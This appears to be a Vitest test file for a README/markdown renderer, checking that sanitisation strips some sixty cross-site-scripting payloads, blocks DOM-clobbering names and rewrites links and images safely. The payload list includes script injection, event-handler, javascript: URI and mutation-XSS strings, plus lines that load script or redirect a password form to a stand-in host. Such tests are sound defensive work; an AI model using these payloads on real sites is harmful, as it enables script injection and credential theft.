import { describe, expect, it } from 'vitest';
import { textOf } from '#runtime/i18n/i18n.ts';
import { drawMarkdown as draw } from '../../tests/support/draw-markdown.tsx';

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(2)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<java\u200bscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '[ref]: javascript:alert(1)\n\n[x][ref]',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<picture><source srcset="javascript:alert(1) 1x"><img src=x></picture>',
  '<template><script>alert(1)</script></template>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  '```html"onmouseover=alert(1)\nx\n```',
  '> [!NOTE"onclick=alert(1)]\n> x',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
];

const forbidden =
  'script,style,iframe,object,embed,form,base,link,meta,svg:not(.icon),math,textarea,select,template,video,audio,body,input';

describe('a README full of scripts', () => {
  it.each(payloads)('runs nothing of %j', async (payload) => {
    const box = await draw(`Before\n\n${payload}\n\nAfter`);
    expect(box.textContent).toContain('Before');
    expect([...box.querySelectorAll(forbidden)].map((element) => element.outerHTML)).toEqual([]);
    for (const element of box.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^(style|srcdoc|formaction|action|background|is|autofocus|nonce)$/);
        expect(value).not.toMatch(
          /^\s*(javascript|vbscript|data:(?!image\/(png|jpeg|gif|webp|avif);base64))/i,
        );
      }
    }
  });

  it('cannot take the name of anything on the page', async () => {
    const box = await draw(
      '<a name="location">x</a> <p id="root">y</p> <img name="cookie" src="a.png">\n\n# toString',
    );
    const names = [...box.querySelectorAll('[id],[name]')].flatMap((element) => [
      element.getAttribute('id'),
      element.getAttribute('name'),
    ]);
    expect(names.filter(Boolean).every((name) => name?.startsWith('user-content-'))).toBe(true);
  });
});

describe('links and pictures', () => {
  it('lead into the repository', async () => {
    const box = await draw('[a](docs/a.md) [b](../../x.md) ![c](./assets/x.png)');
    const hrefs = [...box.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    expect(hrefs).toEqual(['/files/blob/main/docs/a.md', '/files/blob/main/x.md']);
    expect(box.querySelector('img')?.getAttribute('src')).toBe('/raw/main/assets/x.png');
  });

  it('are asked of us as by a visitor inside another page, however they are written', async () => {
    const ours = [
      'https://hub.example/acx/p?x=1#y',
      '//hub.example/%61cx/p',
      'https:\\\\hub.example\\acx\\%ff',
    ];
    const others = ['https://x.example/acx.png', 'https://x.example/a?acx/'];
    for (const address of [...ours, ...others]) {
      const text = `<picture><source srcset="${address} 1x,${address} 2x"><img src="${address}"></picture>`;
      const box = await draw(text, '/models/iframe/a/b');
      const drawn = box.querySelector('img')?.getAttribute('src') ?? '';
      const isMarked = new URL(drawn).searchParams.has('asVisitor');
      expect([address, isMarked]).toEqual([address, ours.includes(address)]);
      // What stands behind a comma without a space is no second address.
      expect(box.querySelector('source')?.getAttribute('srcset')).toBe(`${drawn} 2x`);
      const own = (await draw(text, '/models/a/b')).querySelector('img')?.getAttribute('src') ?? '';
      expect(new URL(own).searchParams.has('asVisitor')).toBe(false);
    }
  });

  it('that lead away neither give credit nor hand over the window', async () => {
    const link = (await draw('<https://x.example>')).querySelector('a');
    expect(link?.getAttribute('rel')).toBe('noopener nofollow ugc');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it('load late and say not where from', async () => {
    const image = (await draw('![x](https://x.example/a.png)')).querySelector('img');
    expect(image?.getAttribute('loading')).toBe('lazy');
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});

describe('what a README may hold', () => {
  it('draws alerts, and only those that are known', async () => {
    expect((await draw('> [!WARNING]\n> Hot')).querySelector('.md-alert')?.getAttribute('data-kind')).toBe(
      'warning',
    );
    expect((await draw('> [!NONSENSE]\n> Hot')).querySelector('.md-alert')).toBeNull();
  });

  it('draws tasks as words and not as boxes to click', async () => {
    const tasks = [...(await draw('- [x] a\n- [ ] b')).querySelectorAll('.md-task')].map((task) =>
      task.getAttribute('aria-label'),
    );
    expect(tasks).toEqual([textOf('readme.task.done'), textOf('readme.task.open')]);
  });

  it('ties footnotes to their text in both directions', async () => {
    const box = await draw('a[^1]\n\n[^1]: b');
    const [there, back] = [...box.querySelectorAll('a')].map((link) => link.getAttribute('href')?.slice(1));
    expect(box.querySelector(`[id="user-content-${there}"]`)).not.toBeNull();
    expect(box.querySelector(`[id="user-content-${back}"]`)).not.toBeNull();
  });

  it('shows a code block with its language and copies it without the last line break', async () => {
    const box = await draw('```python\nx = 1\n```');
    expect(box.querySelector('figcaption span')?.textContent).toBe('python');
    expect(box.querySelector('pre')?.textContent?.trim()).toBe('x = 1');
  });

  it('survives markup that is nested too deep to parse', async () => {
    const box = await draw(`${'>'.repeat(3000)} deep`);
    expect(box.textContent).toContain('deep');
  });
});
